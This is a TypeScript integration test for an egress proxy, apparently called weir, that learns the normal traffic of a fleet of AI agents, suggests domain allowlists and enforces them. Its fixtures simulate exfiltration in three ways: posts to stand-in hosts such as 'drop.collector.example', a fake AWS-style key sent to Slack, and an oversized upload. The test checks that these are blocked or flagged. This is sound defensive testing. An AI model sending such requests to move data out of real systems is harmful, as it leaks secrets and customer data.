import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'yaml';
import { openStateDir } from '../../src/collector-state.ts';
import type { WeirRecord } from '../../src/model/record.ts';
import { openStore } from '../../src/store/database.ts';
import { apiKey, DAY, dayOf, type Event, PROFILES, type Profile, seeded } from '../bench/month-agents.ts';
import { type Answer, https } from '../support/agent.ts';
import { type EchoOrigin, echoOrigin } from '../support/echo-origin.ts';
import { simulatedHouse } from '../support/simulated-house.ts';
import { eventually, startWeir, type Weir } from '../support/weir.ts';
import { options } from '../unit/store/help.ts';
import { openUpstream } from './harness.ts';

/** Five of the company's agents: those that do the same things every week. */
const FLEET = ['coder', 'support', 'finance', 'analyst', 'assistant'].map(
  (name) => PROFILES.find(({ agent }) => agent === name) as Profile,
);
const DAYS = 15;
/** Assembled, so that no scanner takes the repository for a leak. */
const SECRET = ['AK', 'IA', 'Q7RT2MXW4KPLZ9NB'].join('');

/** What a person does who reads a suggestion: takes it over. */
interface Lists {
  readonly agents: Readonly<Record<string, { readonly allowed_domains?: readonly unknown[] }>>;
}

describe('the story: learn, ready, suggest, replay, enforce', () => {
  let stateDir: string;
  let file: string;
  let lists: Lists;
  let weir: Weir;
  let upstream: Awaited<ReturnType<typeof openUpstream>>;
  let origin: EchoOrigin;
  let ca: string;
  let began: number;
  const lived: Event[] = [];
  const states = new Map<string, string>();
  const config: Record<string, unknown> = {};

  /** Two weeks of the fleet in monitor, on a clock of its own that ends now; rows as the recorder writes them. */
  async function live(): Promise<void> {
    const state = openStateDir(stateDir, () => undefined);
    const begin = Math.floor(Date.now() / DAY) * DAY - DAYS * DAY;
    const house = simulatedHouse({ intercept: 'all' }, begin, state);
    const records: WeirRecord[] = [];
    try {
      const randoms = FLEET.map((_, i) => seeded(77 + i));
      for (let day = 0; day < DAYS; day++) {
        const events = FLEET.flatMap((profile, i) =>
          dayOf(profile, begin + day * DAY, day, randoms[i] as () => number, 0.25),
        );
        for (const event of events.sort((a, b) => a.at - b.at)) {
          house.now = event.at;
          lived.push(event);
          for (const record of [...house.sendBoth(event.sent).all].reverse()) records.push(house.presentable(record));
        }
      }
      for (const { agent } of FLEET) states.set(agent, house.baseline.state(agent));
    } finally {
      house.close();
    }
    const store = await openStore(options(stateDir));
    for (let i = 0; i < records.length; i += 1000) {
      const batch = records.slice(i, i + 1000);
      await store.consume(batch, i + batch.length);
    }
    await store.close(10_000);
  }

  before(async () => {
    stateDir = await mkdtemp(join(tmpdir(), 'weir-story-'));
    file = join(stateDir, 'lists.yaml');
    await live();
    const hosts = [...new Set(lived.map(({ sent }) => new URL(sent.url).hostname)), ...FOREIGN];
    upstream = await openUpstream();
    origin = await echoOrigin({ tls: upstream.authority.issue(hosts) });
    config['upstream'] = {
      ca_file: upstream.caFile,
      resolve: Object.fromEntries(hosts.map((host) => [host, `127.0.0.1:${origin.port}`])),
    };
    config['intercept'] = 'all';
  });
  after(async () => {
    await weir?.stop();
    await origin?.close();
    await upstream?.close();
    await rm(stateDir, { recursive: true, force: true });
  });

  /** A `weir` command over the state directory, before any collector runs. */
  async function command(...args: string[]): Promise<{ readonly code: number; readonly out: string }> {
    const { weir: run } = await import('../unit/cli/world.ts');
    const { code, out, err } = await run(args, { HOME: stateDir, WEIR_STATE_DIR: stateDir });
    assert.equal(err, '', err);
    return { code, out };
  }

  const FOREIGN = ['drop.collector.example', 'evil.acme.example'];
  const send = (
    agent: string,
    url: string,
    more: { method?: string; body?: string | Buffer; fields?: Record<string, string> } = {},
  ) => https(weir, url, { agent, ca, method: more.body === undefined ? 'GET' : 'POST', ...more });
  const stopped = (answer: Promise<Answer>): Promise<number> => answer.then(({ status }) => status);

  it('learn: after two weeks every baseline is ready', () => {
    assert.ok(lived.length > 2000, `${lived.length} exchanges`);
    assert.deepEqual(
      [...states.values()],
      FLEET.map(() => 'ready'),
    );
  });

  it('suggest: a list for every agent', async () => {
    const { code, out } = await command('policy', 'suggest');
    assert.equal(code, 0);
    lists = parse(out) as Lists;
    assert.deepEqual(Object.keys(lists.agents).sort(), FLEET.map(({ agent }) => agent).sort());
    for (const [agent, own] of Object.entries(lists.agents)) assert.ok((own.allowed_domains?.length ?? 0) >= 2, agent);
    await writeFile(file, out, { mode: 0o600 });
  });

  it('replay: nothing normal is newly stopped', async () => {
    const { code, out } = await command('replay', '--json', '--since', '30d', '--policy', file);
    const seen = JSON.parse(out) as Record<string, number>;
    assert.deepEqual([seen['newly_stopped'], seen['undecidable'], code], [0, 0, 0], out);
    assert.equal(seen['exchanges'], lived.length);
  });

  it('replay: the same list as policies in CEL says the same', async () => {
    const { out: policies } = await command('policy', 'suggest', '--as', 'cel');
    const cel = join(stateDir, 'policies.yaml');
    await writeFile(cel, policies, { mode: 0o600 });
    const { out } = await command('replay', '--json', '--since', '30d', '--live', '--policy', cel);
    const seen = JSON.parse(out) as Record<string, number>;
    assert.deepEqual([seen['newly_stopped'], seen['undecidable']], [0, 0], out);
    // What is on no line of it is stopped: the policies do decide.
    const narrow = policies.replaceAll('api.anthropic.com', 'api.elsewhere.example');
    await writeFile(cel, narrow, { mode: 0o600 });
    const { code, out: lost } = await command('replay', '--json', '--since', '30d', '--live', '--policy', cel);
    assert.equal(code, 4);
    const { changed } = JSON.parse(lost) as { changed: readonly { readonly host: string }[] };
    assert.deepEqual([...new Set(changed.map(({ host }) => host))], ['api.anthropic.com']);
  });

  it('enforce: normal traffic goes on untouched', async () => {
    began = Date.now();
    weir = await startWeir({ stateDir, config: { ...config, mode: 'enforce', agents: lists.agents } });
    ca = await weir.ca();
    const kinds = new Map(lived.map((event) => [`${event.sent.agent} ${event.sent.method} ${event.sent.url}`, event]));
    assert.ok(kinds.size > 40, `${kinds.size} kinds of requests`);
    for (const { sent } of kinds.values()) {
      const { agent, url, method = 'GET', fields = [] } = sent;
      const body = method === 'GET' ? {} : { body: JSON.stringify({ size: Math.min(2000, sent.requestBytes ?? 0) }) };
      const named = Object.fromEntries(
        fields.flatMap((name, i) => (i % 2 === 0 ? [[name, fields[i + 1] as string]] : [])),
      );
      const { status, body: text } = await send(agent, url, { method, fields: named, ...body });
      assert.equal(status, 200, `${agent} ${method} ${url}: ${text}`);
    }
    assert.equal(origin.seen.length, kinds.size, 'all of it arrived');
    const { agents } = await weir.status();
    for (const { agent } of FLEET)
      assert.equal(agents.find((one) => one.agent === agent)?.baseline.state, 'ready', agent);
  });

  it('exfiltration to an unknown host, or to a sub-domain nobody has used, is stopped', async () => {
    const before = origin.seen.length;
    const secretless = { body: JSON.stringify({ customers: 'all of them' }) };
    assert.equal(await stopped(send('support', 'https://drop.collector.example/in', secretless)), 403);
    assert.equal(await stopped(send('analyst', 'https://evil.acme.example/in', secretless)), 403);
    assert.equal(origin.seen.length, before, 'nothing of it left');
  });

  it('exfiltration by an allowed host with a secret in the body is stopped', async () => {
    const before = origin.seen.filter(({ body }) => body.includes(SECRET)).length;
    const body = JSON.stringify({ text: `the key is ${SECRET}` });
    const answer = await send('support', 'https://slack.com/api/chat.postMessage', { body });
    assert.equal(answer.status, 403, answer.body);
    assert.equal(origin.seen.filter((seen) => seen.body.includes(SECRET)).length, before, 'the secret did not leave');
  });

  it('an allowed host with a foreign key, and far more than ever, are flagged', async () => {
    const url = 'https://api.anthropic.com/v1/messages';
    const fields = { 'x-api-key': apiKey('somebody-else') };
    assert.equal((await send('coder', url, { fields, body: '{}' })).status, 200);
    await send('analyst', 'https://warehouse.acme.example/query', { body: Buffer.alloc(30_000_000, 'x') });
    const found = await told(['credential-first-seen', 'bytes-out']);
    assert.match(
      String(found.get('credential-first-seen')),
      /coder used a credential it has never used with api\.anthropic\.com/,
    );
    assert.match(String(found.get('bytes-out')), /bytes sent to warehouse\.acme\.example/);
  });

  it('of the normal traffic nothing was stopped and nothing was flagged', async () => {
    const rows = await weir.query(
      `SELECT DISTINCT agent, host, action FROM exchanges WHERE action = 'block' AND epoch_ms(started_at) >= ${began} ORDER BY ALL`,
    );
    assert.deepEqual(rows, [
      { agent: 'analyst', host: 'evil.acme.example', action: 'block' },
      { agent: 'support', host: 'drop.collector.example', action: 'block' },
      { agent: 'support', host: 'slack.com', action: 'block' },
    ]);
    const flagged = await weir.query(
      `SELECT DISTINCT rule FROM findings WHERE severity <> 'info' AND epoch_ms(occurred_at) >= ${began} ORDER BY ALL`,
    );
    const planted = ['aws-access-key', 'bytes-out', 'credential-first-seen', 'destination-not-allowed'];
    assert.deepEqual(
      flagged.map(({ rule }) => rule),
      planted,
    );
  });

  it('a replay of it all under the rules in force says what happened', async () => {
    const rules = ['--config', join(stateDir, 'weir-test.yaml'), '--mode', 'configured'];
    const { stdout, stderr, code } = await weir.cli(['replay', '--json', '--since', '30d', ...rules]);
    assert.deepEqual([code, stderr], [0, '']);
    const seen = JSON.parse(stdout) as Record<string, unknown>;
    assert.deepEqual([seen['newly_stopped'], seen['no_longer_stopped'], seen['undecidable']], [0, 0, 0], stdout);
    assert.equal(seen['still_stopped'], 3);
  });

  /** Messages by rule, once all of them are written. */
  async function told(rules: readonly string[]): Promise<ReadonlyMap<string, string>> {
    const found = new Map<string, string>();
    await eventually(
      async () => {
        const rows = await weir.query(`SELECT rule, message FROM findings WHERE epoch_ms(occurred_at) >= ${began}`);
        for (const { rule, message } of rows) found.set(String(rule), String(message));
        return rules.every((rule) => found.has(rule));
      },
      `findings ${rules.join(', ')}`,
    );
    return found;
  }
});
